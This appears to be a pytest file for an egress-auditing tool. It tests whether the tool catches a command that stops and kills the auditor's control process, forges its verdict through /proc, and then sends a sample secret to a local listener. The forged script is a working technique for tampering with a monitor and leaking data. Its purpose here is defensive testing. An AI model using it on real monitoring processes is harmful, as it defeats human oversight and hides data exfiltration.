"""A command that speaks for the planted leak, or does away with it, gets no verdict that lies."""

from __future__ import annotations

import contextlib
import signal
import socket
import threading
from typing import TYPE_CHECKING

import pytest
from auditing import Audited, Auditor, audit_command, python

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = pytest.mark.usefixtures("watched")


@pytest.fixture
def proxy() -> Iterator[int]:
    """A listener of somebody else that would pass on what it is told."""
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _ = server.accept()
                    with connection:
                        connection.recv(100)

        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)


CONTROL = """
import json, os, signal, socket, sys, time
def parent(pid): return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
def controls(depth):
    front = os.getpid()
    for _ in range(depth): front = parent(front)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            words = open(f"/proc/{pid}/cmdline").read().split("\\0")
            above = int(pid)
            for _ in range(depth): above = parent(above)
            if len(words) > 1 and words[1].endswith("audit/control.py") and above == front: yield int(pid)
        except OSError: pass
def find(depth):
    for _ in range(400):
        for pid in controls(depth): return pid
        time.sleep(0.005)
    raise SystemExit("no control was found")
"""
FORGED = (
    CONTROL
    + """
depth, port = int(sys.argv[1]), int(sys.argv[2])
control = find(depth)
os.kill(control, signal.SIGSTOP)
try:
    out = os.open(f"/proc/{control}/fd/1", os.O_WRONLY)
    os.write(out, json.dumps({"pid": os.getpid(), "port": port}).encode())
except OSError: pass
os.kill(control, signal.SIGKILL)
socket.create_connection(("127.0.0.1", port)).sendall(b"alice likes sushi")
print("sent")
"""
)


def test_a_command_that_speaks_for_the_planted_leak_is_seen(run: Auditor, proxy: int) -> None:
    done = run(*python(FORGED, "2", str(proxy)))
    assert done.stdout == "sent\n"
    assert done.exit_code == 1
    assert str(proxy) in done.egress.reason


def test_so_it_is_where_nobody_supervises(run: Auditor, proxy: int, tmp_path: Path) -> None:
    log = tmp_path / "inner.json"
    outer = run("--", *audit_command("--log", str(log), *python(FORGED, "1", str(proxy))))
    inner = Audited(0, "", "", log)
    assert "sent" in outer.stdout
    assert inner.egress.status in ("broken", "inconclusive"), inner.egress


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGSTOP])
def test_without_the_planted_leak_nothing_is_upheld(run: Auditor, number: int) -> None:
    done = run(*python(f"{CONTROL}\nos.kill(find(2), {int(number)})\nprint('ended')"))
    assert done.stdout == "ended\n"
    assert done.exit_code == 3
    assert "did not catch the leak" in done.egress.reason
